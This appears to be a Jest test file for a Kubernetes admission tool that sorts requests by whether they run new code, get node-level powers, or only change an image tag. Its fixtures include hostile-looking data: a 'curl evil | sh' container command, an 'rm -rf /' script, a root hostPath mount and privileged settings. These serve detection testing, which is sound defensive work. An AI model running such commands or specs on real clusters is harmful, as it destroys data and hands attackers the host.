// effects.runsCode and effects.changesImage: connects, debug containers, new workloads, containers changed other
// than by image tag; node powers. A new tag of the same repository is a release, not new code.
import { describe, expect, it } from '@jest/globals';
import type { KubeObject } from '../../../../src/kube/types.js';
import { imageRepository } from '../../../../src/core/effects/runs-code.js';
import { admission, connect, container, create, edited, effectsOf, pod, podSpec, update, workload } from '../../../helpers/effects.js';

const NS = 'shop-prod';

type Spec = Record<string, unknown>;
const templateSpec = (o: KubeObject): Spec => ((o.spec as Spec).template as { spec: Spec }).spec;

const web = workload('Deployment', `${NS}/web`, { replicas: 3 });

/** `web` with its template's containers replaced. */
function withContainers(...containers: Record<string, unknown>[]): KubeObject {
  return edited(web, (d) => { templateSpec(d).containers = containers; });
}

function deploymentUpdate(after: KubeObject, before: KubeObject = web): ReturnType<typeof effectsOf> {
  return effectsOf(update('apps/deployments', before, after));
}

describe('effects.runsCode: connects and debug containers', () => {
  it('flags pods/exec, attach, portforward and pods/proxy, not on the node', () => {
    for (const [sub, what] of [['exec', 'executes a command in'], ['attach', 'attaches to'], ['portforward', 'port-forwards into'], ['proxy', 'proxies to']]) {
      const { runsCode, changesImage } = effectsOf(connect('pods', sub ?? '', NS, 'web-1'));
      expect(runsCode).toEqual({ any: true, onNode: false, causes: [`${what ?? ''} pods ${NS}/web-1`] });
      expect(changesImage).toBe(false);
    }
  });

  it('flags services/proxy, and nodes/proxy with the node\'s powers', () => {
    expect(effectsOf(connect('services', 'proxy', NS, 'web')).runsCode).toEqual({ any: true, onNode: false, causes: [`proxies to services ${NS}/web`] });
    expect(effectsOf(connect('nodes', 'proxy', undefined, 'node-1')).runsCode).toEqual({ any: true, onNode: true, causes: ['proxies to nodes node-1'] });
  });

  it('flags a debug container added through pods/ephemeralcontainers', () => {
    const before = pod(NS, 'web-1');
    const after = edited(before, (p) => { (p.spec as Spec).ephemeralContainers = [container('debugger', 'busybox:1.36', { command: ['sh'] })]; });
    const { runsCode } = effectsOf(update('pods', before, after, 'ephemeralcontainers'));
    expect(runsCode.any).toBe(true);
    expect(runsCode.causes).toContain(`adds a debug container to pods ${NS}/web-1`);
  });

  it('does not flag pods/status, pods/binding or a Scale', () => {
    const p = pod(NS, 'web-1');
    expect(effectsOf(update('pods', p, edited(p, (o) => { o.status = { phase: 'Running' }; }), 'status')).runsCode.any).toBe(false);
    expect(effectsOf(create('pods', { kind: 'Binding', metadata: { name: 'web-1', namespace: NS }, target: { kind: 'Node', name: 'node-1' } }, 'binding')).runsCode.any).toBe(false);
    const scale = update('apps/deployments', { kind: 'Scale', metadata: { name: 'web', namespace: NS }, spec: { replicas: 3 } }, { kind: 'Scale', metadata: { name: 'web', namespace: NS }, spec: { replicas: 5 } }, 'scale');
    expect(effectsOf(scale).runsCode.any).toBe(false);
  });
});

describe('effects.runsCode: new workloads', () => {
  it('flags a new Pod and a new Deployment, not on the node', () => {
    expect(effectsOf(create('pods', pod(NS, 'shell'))).runsCode).toEqual({ any: true, onNode: false, causes: [`starts a new workload pods ${NS}/shell`] });
    expect(effectsOf(create('apps/deployments', web)).runsCode)
      .toEqual({ any: true, onNode: false, causes: [`starts a new workload deployments ${NS}/web (spec.template.spec)`] });
  });

  it('finds a CronJob\'s pod template and a custom resource\'s spec.template.spec', () => {
    const cron: KubeObject = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'n', namespace: NS }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: podSpec() } } } } };
    expect(effectsOf(create('batch/cronjobs', cron)).runsCode.causes).toEqual([`starts a new workload cronjobs ${NS}/n (spec.jobTemplate.spec.template.spec)`]);
    const runner: KubeObject = { apiVersion: 'example.com/v1', kind: 'Runner', metadata: { name: 'r', namespace: NS }, spec: { replicas: 2, template: { spec: podSpec() } } };
    expect(effectsOf(create('example.com/runners', runner)).runsCode).toMatchObject({ any: true, causes: [`starts a new workload runners ${NS}/r (spec.template.spec)`] });
  });

  it('does not flag a custom resource or a ConfigMap that declares no pod spec', () => {
    const widget: KubeObject = { apiVersion: 'example.com/v1', kind: 'Widget', metadata: { name: 'w', namespace: NS }, spec: { template: { size: 3 }, containers: 'not a list' } };
    expect(effectsOf(create('example.com/widgets', widget)).runsCode.any).toBe(false);
    expect(effectsOf(create('configmaps', { kind: 'ConfigMap', metadata: { name: 'c', namespace: NS }, data: { script: 'rm -rf /' } })).runsCode.any).toBe(false);
  });

  it('flags node powers: privileged, hostPID, hostNetwork, hostPath, strong capabilities', () => {
    const cases: [Spec, string][] = [
      [podSpec({ containers: [container('web', 'shop/web:1.0', { securityContext: { privileged: true } })] }), 'privileged containers/web'],
      [podSpec({ hostPID: true }), 'hostPID'],
      [podSpec({ hostNetwork: true }), 'hostNetwork'],
      [podSpec({ hostIPC: true }), 'hostIPC'],
      [podSpec({ containers: [container('web', 'shop/web:1.0', { securityContext: { procMount: 'Unmasked' } })] }), 'unmasked /proc in containers/web'],
      [podSpec({ initContainers: [container('init', 'busybox', { securityContext: { privileged: true } })] }), 'privileged initContainers/init'],
      [podSpec({ volumes: [{ name: 'root', hostPath: { path: '/' } }] }), 'hostPath volume root'],
      [podSpec({ containers: [container('web', 'shop/web:1.0', { securityContext: { capabilities: { add: ['CAP_SYS_ADMIN'] } } })] }), 'capabilities CAP_SYS_ADMIN in containers/web'],
    ];
    for (const [spec, reason] of cases) {
      const { runsCode } = effectsOf(create('pods', pod('shop-dev', 'p', spec)));
      expect(runsCode.onNode).toBe(true);
      expect(runsCode.causes).toContain(`runs with the node's powers in pods shop-dev/p: ${reason}`);
    }
  });

  it('does not give node powers to privileged: false, hostPID: false, an emptyDir, or a harmless capability', () => {
    const spec = podSpec({
      hostPID: false, volumes: [{ name: 'tmp', emptyDir: {} }],
      containers: [container('web', 'shop/web:1.0', { securityContext: { privileged: false, capabilities: { add: ['NET_BIND_SERVICE'] } } })],
    });
    expect(effectsOf(create('pods', pod('shop-dev', 'p', spec))).runsCode).toMatchObject({ any: true, onNode: false });
  });
});

describe('effects.runsCode and changesImage: changed workloads', () => {
  it('flags a changed command', () => {
    const { runsCode, changesImage } = deploymentUpdate(withContainers(container('web', 'shop/web:1.0', { command: ['sh', '-c', 'curl evil | sh'] })));
    expect(runsCode).toEqual({ any: true, onNode: false, causes: [`changes what containers/web runs in deployments ${NS}/web (spec.template.spec)`] });
    expect(changesImage).toBe(false);
  });

  it('flags an env change (a variable can switch the image onto another code path), and an envFrom change', () => {
    const { runsCode, changesImage } = deploymentUpdate(withContainers(container('web', 'shop/web:1.0', { env: [{ name: 'WIPE_ON_START', value: '1' }] })));
    expect(runsCode).toEqual({ any: true, onNode: false, causes: [`changes what containers/web runs in deployments ${NS}/web (spec.template.spec)`] });
    expect(changesImage).toBe(false);
    expect(deploymentUpdate(withContainers(container('web', 'shop/web:1.0', { envFrom: [{ configMapRef: { name: 'x' } }] }))).runsCode.any).toBe(true);
  });

  it('does not flag a rollout restart (only the template\'s annotations change): pods roll, nothing new runs', () => {
    const restarted = edited(web, (d) => {
      ((d.spec as Spec).template as { metadata: Spec }).metadata.annotations = { 'kubectl.kubernetes.io/restartedAt': '2026-12-07T14:00:00Z' };
    });
    expect(deploymentUpdate(restarted)).toMatchObject({ runsCode: { any: false, onNode: false, causes: [] }, changesImage: false });
  });

  it('reports a new tag of the same repository as changesImage only', () => {
    const { runsCode, changesImage, summary } = deploymentUpdate(withContainers(container('web', 'shop/web:1.1')));
    expect(runsCode.any).toBe(false);
    expect(changesImage).toBe(true);
    expect(summary).toBe('restarts 3 pods; changes an image tag');
  });

  it('reads a registry port as part of the repository: registry:5000/shop/web:1.2 -> 1.3 is a tag change', () => {
    const before = withContainers(container('web', 'registry:5000/shop/web:1.2'));
    const result = deploymentUpdate(withContainers(container('web', 'registry:5000/shop/web:1.3')), before);
    expect(result).toMatchObject({ changesImage: true, runsCode: { any: false } });
    expect(imageRepository('registry:5000/shop/web:1.2')).toBe('registry:5000/shop/web');
    expect(imageRepository('registry:5000/shop/web')).toBe('registry:5000/shop/web');
    expect(imageRepository('shop/web@sha256:abc')).toBe('shop/web');
    expect(imageRepository('shop/web:1.2@sha256:abc')).toBe('shop/web');
  });

  it('reports a new digest of the same repository as changesImage', () => {
    const before = withContainers(container('web', 'shop/web@sha256:aaaa'));
    expect(deploymentUpdate(withContainers(container('web', 'shop/web@sha256:bbbb')), before)).toMatchObject({ changesImage: true, runsCode: { any: false } });
  });

  it('flags an image moved to another repository or registry as new code, not changesImage', () => {
    for (const image of ['evil/web:1.0', 'registry:5001/shop/web:1.0', 'shop/web-debug:1.0']) {
      const before = withContainers(container('web', 'shop/web:1.0'));
      const { runsCode, changesImage } = deploymentUpdate(withContainers(container('web', image)), before);
      expect(runsCode.causes).toEqual([`moves containers/web to image ${image} (was shop/web:1.0) in deployments ${NS}/web (spec.template.spec)`]);
      expect(changesImage).toBe(false);
    }
  });

  it('is not changesImage when a tag change comes with a command change', () => {
    const { runsCode, changesImage } = deploymentUpdate(withContainers(container('web', 'shop/web:1.1', { args: ['--debug-shell'] })));
    expect(runsCode.any).toBe(true);
    expect(changesImage).toBe(false);
  });

  it('flags a new container and a new volume', () => {
    expect(deploymentUpdate(withContainers(container('web', 'shop/web:1.0'), container('sidecar', 'shop/proxy:1'))).runsCode.causes)
      .toEqual([`adds container containers/sidecar in deployments ${NS}/web (spec.template.spec)`]);
    const mounted = edited(web, (d) => { templateSpec(d).volumes = [{ name: 'creds', secret: { secretName: 'db' } }]; });
    expect(deploymentUpdate(mounted).runsCode.causes).toEqual([`changes the volumes, identity or security settings of deployments ${NS}/web (spec.template.spec)`]);
  });

  it('does not flag a replicas change, a resources change or a nodeSelector change', () => {
    expect(deploymentUpdate(edited(web, (d) => { (d.spec as Spec).replicas = 9; })).runsCode.any).toBe(false);
    expect(deploymentUpdate(withContainers(container('web', 'shop/web:1.0', { resources: { limits: { cpu: '2' } } }))).runsCode.any).toBe(false);
    expect(deploymentUpdate(edited(web, (d) => { templateSpec(d).nodeSelector = { pool: 'big' }; })).runsCode.any).toBe(false);
  });

  it('flags a tag change of an already privileged workload as running with node powers', () => {
    const privileged = withContainers(container('web', 'shop/web:1.0', { securityContext: { privileged: true } }));
    const after = withContainers(container('web', 'shop/web:1.1', { securityContext: { privileged: true } }));
    expect(deploymentUpdate(after, privileged).runsCode).toMatchObject({ any: true, onNode: true });
  });

  it('runs nothing new on a DELETE of a workload', () => {
    const request = admission({ operation: 'DELETE', resource: 'apps/deployments', namespace: NS, name: 'web', oldObject: web });
    expect(effectsOf(request, [web]).runsCode).toEqual({ any: false, onNode: false, causes: [] });
  });
});
